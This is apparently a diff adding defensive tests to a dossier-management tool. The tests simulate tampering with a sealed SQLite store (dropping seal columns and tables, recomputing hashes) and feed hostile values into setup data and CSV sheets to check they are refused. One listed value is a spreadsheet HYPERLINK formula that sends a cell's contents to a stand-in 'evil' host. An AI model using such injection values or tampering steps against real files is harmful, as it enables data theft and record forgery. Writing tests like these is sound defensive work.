@@ -8,21 +8,38 @@ raw exception, and what loads can be saved, checked and loaded again.
 from __future__ import annotations
 
 import copy
+import hashlib
 import json
+import sqlite3
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import attrs
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from ketnap import InvalidDocument, SQLiteStore, Stage, Workflow
+from ketnap import InvalidDocument, Quotas, SQLiteStore, Stage, StoreError, Workflow
 from ketnap.deadlines import deadlines_for
+from ketnap.derived import facts_for
+from ketnap.errors import InvalidInput, KetnapError
 from ketnap.inputs import LIMITS
+from ketnap.messages import Message
+from ketnap.model import Dossier
+from ketnap.organizations import (
+    Course,
+    OrganizationTree,
+    Unit,
+    course_data,
+    courses_from_data,
+)
+from ketnap.sheets import SheetRefused, read_dossiers
 from ketnap.storage import checked_dumps, dumps, from_document, loads, to_document
 from ketnap.testing import make_dossier, walk
 from tests.conftest import MEETING
 from tests.storage.test_fuzz import _paths
+from tests.test_sheets import sheet_rows
 
 
 @pytest.fixture(scope="module")
@@ -238,3 +255,220 @@ def test_a_save_refuses_exactly_what_a_load_refuses(
     else:
         assert loaded is not None, "a save accepted what a load refuses"
         assert to_document(loads(saved)) == to_document(loaded)
+
+
+# --- a layout downgrade, in any combination (issue 24) -------------------------------------
+
+_KEY = b"kept in the district office's safe"
+_STRIPS = {
+    "journal": "DROP TABLE journal",
+    "identities": "DROP TABLE identities",
+    "events seals": "ALTER TABLE dossiers DROP COLUMN events_seal",
+    "quota seals": "ALTER TABLE quotas DROP COLUMN seal",
+    "course seals": "ALTER TABLE courses DROP COLUMN seal",
+    "journal head": "DELETE FROM ketnap_meta WHERE key = 'journal'",
+}
+
+
+@given(
+    layout=st.sampled_from(["1", "2", "3", "4"]),
+    strip=st.just(frozenset(_STRIPS)) | st.frozensets(st.sampled_from(sorted(_STRIPS))),
+    key=st.sampled_from([None, _KEY]),
+    recompute=st.booleans(),
+    trust=st.booleans(),
+)
+@settings(
+    max_examples=120,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+def test_a_forged_quota_behind_any_layout_downgrade_is_never_accepted(
+    tmp_path_factory: pytest.TempPathFactory,
+    layout: str,
+    strip: frozenset[str],
+    key: bytes | None,
+    recompute: bool,
+    trust: bool,
+) -> None:
+    # The forger edits a quota, drops any part of what seals the store, marks any older
+    # layout and perhaps recomputes what layout 1 sealed (SHA-256 over each document, all
+    # one can do without the key). Opened with the key (or without, as it was sealed), and
+    # even with trust_unsealed, the store is refused, or verify finds the forgery; only a
+    # store sealed without a key can be forged whole, and the anchor then tells.
+    path = tmp_path_factory.mktemp("downgrade") / "s.db"
+    workflow = Workflow()
+    dossier = make_dossier(meeting=MEETING)
+    walk(workflow, dossier, meeting=MEETING, until=Stage.PROPOSED)
+    with SQLiteStore(path, facts=facts_for(workflow.law), seal_key=key) as store:
+        store.save(dossier)
+        store.save_quotas(Quotas({("X", 2024): 2}))
+        anchor = store.anchor()
+    db = sqlite3.connect(path)
+    db.execute("UPDATE quotas SET admissions = 20")
+    for name in sorted(strip):
+        db.execute(_STRIPS[name])
+    db.execute("UPDATE ketnap_meta SET value = ? WHERE key = 'layout'", (layout,))
+    if recompute:
+        for dossier_id, document in db.execute("SELECT id, document FROM dossiers").fetchall():
+            seal = hashlib.sha256(document.encode()).hexdigest()
+            db.execute("UPDATE dossiers SET seal = ? WHERE id = ?", (seal, dossier_id))
+    db.commit()
+    db.close()
+    try:
+        opened = SQLiteStore(
+            path, facts=facts_for(workflow.law), seal_key=key, trust_unsealed=trust
+        )
+    except StoreError:
+        return  # refused, untouched
+    with opened:
+        assert opened.verify(anchor=anchor) != []
+        whole_forgery = layout == "1" and key is None and recompute
+        if not whole_forgery:
+            assert opened.verify() != []
+
+
+# --- issue 24: the organisation's data and the office's sheets under attack ----------------------
+
+SETUP_HOSTILE: list[object] = [
+    *HOSTILE,
+    "\x1b[2J",
+    "\u0085",
+    "x" * 100_000,
+    10**400,
+    ["x"],
+    {"x": 1},
+    True,
+    None,
+    -1,
+    1.5,
+    float("nan"),
+]
+_TREE = OrganizationTree(
+    [
+        Unit(code="H", name="Đảng bộ huyện", level="district"),
+        Unit(code="X", name="Đảng bộ xã", level="base_committee", parent="H", may_admit=True),
+        Unit(code="X.1", name="Chi bộ thôn 1", level="branch", parent="X", members=21),
+    ]
+)
+_COURSE = Course(code="K1", unit="H", opened_on=MEETING, closed_on=MEETING.add(days=4),
+                 trainees=70)  # fmt: skip
+SETUP_DATA: dict[str, tuple[object, Callable[[Any], object], str]] = {
+    "tree": (_TREE.to_data(), OrganizationTree.from_data, "tree"),
+    "quotas": (Quotas({("X", 2021): 6}).to_data(), Quotas.from_data, "quotas"),
+    "courses": ([course_data(_COURSE)], courses_from_data, "courses"),
+}
+
+
+@given(st.data())
+@settings(max_examples=400, deadline=None)
+def test_a_hostile_value_anywhere_in_the_setup_data_is_refused_naming_its_key_or_stored(
+    data: st.DataObject,
+) -> None:
+    kind = data.draw(st.sampled_from(sorted(SETUP_DATA)), label="kind")
+    given_data, read, key = SETUP_DATA[kind]
+    edited = copy.deepcopy(given_data)
+    path = data.draw(st.sampled_from(_paths(edited)[1:]), label="path")
+    parent: Any = edited
+    for step in path[:-1]:
+        parent = parent[step]
+    parent[path[-1]] = data.draw(st.sampled_from(SETUP_HOSTILE), label="value")
+    try:
+        value = read(edited)
+    except InvalidInput as exc:
+        refused: InvalidInput | None = exc
+    else:
+        refused = None
+    if refused is not None:
+        assert refused.field.startswith(key), refused.field
+        assert "\x1b" not in str(refused)
+        return
+    # Read: then it is clean enough to store and read back the same.
+    with SQLiteStore(":memory:") as store:
+        if isinstance(value, OrganizationTree):
+            store.save_tree(value)
+            assert store.tree().to_data() == value.to_data()
+        elif isinstance(value, Quotas):
+            store.save_quotas(value)
+            assert store.quotas().items() == value.items()
+        else:
+            assert isinstance(value, list)
+            store.save_courses(value)
+            assert store.courses() == value
+
+
+def test_a_tree_deeper_than_the_limit_is_refused_naming_the_unit() -> None:
+    depth = LIMITS.tree_depth + 1
+    levels = [{"code": f"l{i}", "vi": f"Cấp {i}", "en": f"Level {i}", "base": i == depth - 2,
+               "branch": i == depth - 1} for i in range(depth)]  # fmt: skip
+    units = [{"code": f"u{i}", "name": f"u{i}", "level": f"l{i}",
+              "parent": f"u{i - 1}" if i else None} for i in range(depth)]  # fmt: skip
+    with pytest.raises(InvalidInput, match=r"'u12' is more than 12 levels deep") as refused:
+        OrganizationTree.from_data({"levels": levels, "units": units})
+    assert refused.value.field == f"tree.units[{depth - 1}]"
+    OrganizationTree.from_data({"levels": levels[:-1], "units": units[:-1]})  # 12: fine
+
+
+def test_a_plan_over_a_tree_of_any_depth_never_recurses(monkeypatch: pytest.MonkeyPatch) -> None:
+    from ketnap import organizations  # noqa: PLC0415
+
+    # Allowed here only to show that nothing walks the tree by recursion (1,500 levels
+    # ended in RecursionError in `report`).
+    monkeypatch.setattr(organizations, "LIMITS", attrs.evolve(LIMITS, tree_depth=5_000))
+    depth = 3_000
+    levels = [organizations.Level(code=f"l{i}", label=Message(vi="c", en="c"),
+                                  base=i == depth - 2, branch=i == depth - 1)
+              for i in range(depth)]  # fmt: skip
+    units = [Unit(code=f"u{i}", name=f"u{i}", level=f"l{i}", parent=f"u{i - 1}" if i else None)
+             for i in range(depth)]  # fmt: skip
+    tree = OrganizationTree(units, levels=levels)
+    quotas = Quotas({(f"u{depth - 1}", 2024): 3})
+    assert quotas.plan(tree, "u0", 2024) == 3
+    assert len(tree.ancestors(f"u{depth - 1}")) == depth - 1
+
+
+SHEET_HOSTILE: list[object] = [
+    *(value for value in SETUP_HOSTILE if isinstance(value, str)),
+    '=HYPERLINK("http://evil/?"&B2,"x")',
+    "'=1+1",
+    "99999999999999999999/01/1999",
+    "٢٠/٠٥/١٩٩٨",
+    "31/02/2000",
+    "01/01/0000",
+    "NaN",
+    "1e400",
+    "-1",
+    "",
+]
+
+
+@given(st.data())
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+def test_a_hostile_value_in_any_cell_of_a_sheet_is_refused_by_its_place_or_read(
+    data: st.DataObject,
+) -> None:
+    import tempfile  # noqa: PLC0415 - hypothesis and function-scoped fixtures do not mix
+
+    rows = sheet_rows(1)
+    row = data.draw(st.integers(0, 1), label="row")
+    column = data.draw(st.integers(0, len(rows[0]) - 1), label="column")
+    rows[row][column] = data.draw(st.sampled_from(SHEET_HOSTILE), label="value")
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "ds.csv"
+        path.write_bytes(
+            "".join(",".join(f'"{c}"' for c in r) + "\r\n" for r in rows).encode(
+                "utf-8", "surrogatepass"
+            )
+        )
+        outcome: list[Dossier] | KetnapError
+        try:
+            outcome = read_dossiers(path, workflow=Workflow())
+        except (SheetRefused, InvalidInput) as exc:
+            outcome = exc
+    if isinstance(outcome, SheetRefused):  # every problem names its row
+        assert all(problem.row in {1, 2} for problem in outcome.problems)
+    elif isinstance(outcome, KetnapError):  # a header that cannot be read: named so
+        assert isinstance(outcome, InvalidInput)
+        assert outcome.field in {"header", "sheet"}, outcome.field
+    else:  # read: then the dossier saves and loads as any other
+        for dossier in outcome:
+            assert loads(checked_dumps(dossier)).id == dossier.id
